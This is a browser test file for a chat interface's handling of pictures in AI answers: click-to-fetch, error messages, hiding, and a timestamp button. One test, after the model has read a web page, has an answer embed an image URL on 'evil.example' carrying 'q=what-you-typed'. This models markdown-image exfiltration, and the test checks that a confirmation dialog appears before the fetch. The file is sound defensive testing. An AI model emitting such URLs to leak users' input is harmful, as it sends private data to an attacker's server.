/** Pictures in an answer: none is fetched before a press, and the user can hide a shown one. */
import { expect, test } from 'vitest';
import { userEvent } from 'vitest/browser';
import type { FetchedPicture } from '../../src/contracts/attachment';
import { show } from './show';
import { call, result, text, Told } from './told';
import { slow } from '../support/matrix';

/** A PNG of one red pixel. */
const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC';
const bytes = Uint8Array.from(atob(pixel), (letter) => letter.charCodeAt(0));
const cat = 'https://c.example/cat.png';
const showIt = { name: 'Show the picture from c.example' };

// eslint-disable-next-line no-restricted-globals -- It lies in memory: no network is reached.
const readBlob = async (url: string) => (await fetch(url)).blob();

/** Shows a chat with this answer, and records what it fetches. */
async function answered(
  answer: string,
  { fetched, isOutside = false }: { fetched?: FetchedPicture; isOutside?: boolean } = {},
) {
  const told = new Told().you('Hi');
  if (isOutside) {
    told.hearth([call('c1', 'fetch_page', { url: 'https://news.example/' })]).results({
      ...result('c1', 'fetch_page', 'News: https://found.example/a.png'),
      origins: [{ door: 'page', name: 'news.example' }],
    });
  }
  const asked: string[] = [];
  const { screen } = await show({
    ...told.hearth([text(answer)], 'answered').chat,
    fetchPicture: async (url) => {
      asked.push(url);
      return fetched ?? { ok: true, bytes, type: 'image/png' };
    },
  });
  return { screen, asked };
}

test('invariant: a picture in an answer is fetched only after a press and freed from memory when hidden', async () => {
  const { screen, asked } = await answered(`A cat: ![a red dot](${cat})`);
  const button = screen.getByRole('button', showIt);
  await expect.element(button).toBeVisible();
  await expect.element(screen.getByRole('link', { name: 'a red dot (c.example)' })).toBeVisible();
  expect(asked).toEqual([]);
  (button.element() as HTMLElement).focus();
  await userEvent.keyboard('{Enter}');
  const picture = screen.getByRole('img', { name: 'a red dot' });
  await expect.element(picture).toBeVisible();
  expect(asked).toEqual([cat]);
  const { src } = picture.element() as HTMLImageElement;
  expect(src).toMatch(/^blob:/);
  expect((await readBlob(src)).type).toBe('image/png');
  const hide = screen.getByRole('button', { name: 'Hide the picture' });
  await expect.element(hide).toHaveFocus();
  await userEvent.keyboard('{Enter}');
  await expect.element(picture).not.toBeInTheDocument();
  await expect.element(screen.getByRole('button', showIt)).toHaveFocus();
  // The picture was freed, so its bytes are gone.
  await expect(readBlob(src)).rejects.toThrow();
});

slow.for([
  { problem: 'unreachable' as const, says: /may not let other pages read its pictures/ },
  { problem: 'refused-address' as const, says: /over https from the public internet alone/ },
  { problem: 'wrong-type' as const, says: /no PNG, JPEG, GIF or WebP/ },
  { problem: 'large' as const, says: /larger than 10 MB/ },
])(
  'a picture that cannot be shown keeps its link, and a message explains why: problem $problem',
  async ({ problem, says }) => {
    const { screen } = await answered(`![a](${cat})`, { fetched: { ok: false, problem } });
    await screen.getByRole('button', showIt).click();
    await expect.element(screen.getByText(says)).toBeVisible();
    await expect.element(screen.getByRole('link', { name: 'a (c.example)' })).toBeVisible();
    await expect.element(screen.getByRole('button', showIt)).toBeVisible();
    await expect.element(screen.getByRole('img')).not.toBeInTheDocument();
  },
);

slow('a truncated picture file is reported as damaged', async () => {
  const cut = bytes.slice(0, 40);
  const { screen } = await answered(`![a](${cat})`, {
    fetched: { ok: true, bytes: cut, type: 'image/png' },
  });
  await screen.getByRole('button', showIt).click();
  await expect.element(screen.getByText(/cannot draw it/)).toBeVisible();
});

slow('in a chat with web text, a picture URL made up by the model is shown before fetching', async () => {
  const url = 'https://evil.example/x.png?q=what-you-typed';
  const { screen, asked } = await answered(`![a](${url}) ![b](https://found.example/a.png)`, {
    isOutside: true,
  });
  await screen.getByRole('button', { name: 'Show the picture from evil.example' }).click();
  const dialog = screen.getByRole('dialog', { name: 'Fetch a picture from evil.example?' });
  await expect.element(dialog).toHaveTextContent('q=what-you-typed');
  expect(asked).toEqual([]);
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect.element(dialog).not.toBeInTheDocument();
  expect(asked).toEqual([]);
  await screen.getByRole('button', { name: 'Show the picture from evil.example' }).click();
  await dialog.getByRole('button', { name: 'Fetch it' }).click();
  await expect.element(screen.getByRole('img', { name: 'a' })).toBeVisible();
  await screen.getByRole('button', { name: 'Show the picture from found.example' }).click();
  await expect.element(screen.getByRole('img', { name: 'b' })).toBeVisible();
  expect(asked).toEqual([url, 'https://found.example/a.png']);
});

test('a picture embedded in the answer is also shown only after a press', async () => {
  const { screen, asked } = await answered(`Dot: ![a dot](data:image/png;base64,${pixel})`);
  await expect.element(screen.getByText('Dot: a dot')).toBeVisible();
  await expect.element(screen.getByRole('img')).not.toBeInTheDocument();
  await screen.getByRole('button', { name: 'Show the picture', exact: true }).click();
  await expect.element(screen.getByRole('img', { name: 'a dot' })).toBeVisible();
  expect(asked).toEqual([`data:image/png;base64,${pixel}`]);
});

test('the button that shows a linked picture is not part of the link', async () => {
  const { screen } = await answered(`[![a](${cat})](https://shop.example/)`);
  const button = screen.getByRole('button', showIt);
  await expect.element(button).toBeVisible();
  expect(button.element().closest('a')).toBeNull();
});

test('a button shows when an answer was written and by which model', async () => {
  const { screen } = await answered('Hello.');
  await expect.element(screen.getByText('Written', { exact: true })).not.toBeInTheDocument();
  const button = screen.getByRole('button', { name: 'When this was written' });
  await expect.element(button).toBeVisible();
  (button.element() as HTMLElement).focus();
  await userEvent.keyboard('{Enter}');
  await expect.element(screen.getByText('Written', { exact: true })).toBeVisible();
  const time = document.querySelector('time[datetime]');
  expect(Number.isNaN(Date.parse(time?.getAttribute('datetime') ?? ''))).toBe(false);
  await userEvent.keyboard('{Escape}');
  await expect.element(screen.getByText('Written', { exact: true })).not.toBeInTheDocument();
  await expect.element(button).toHaveFocus();
});
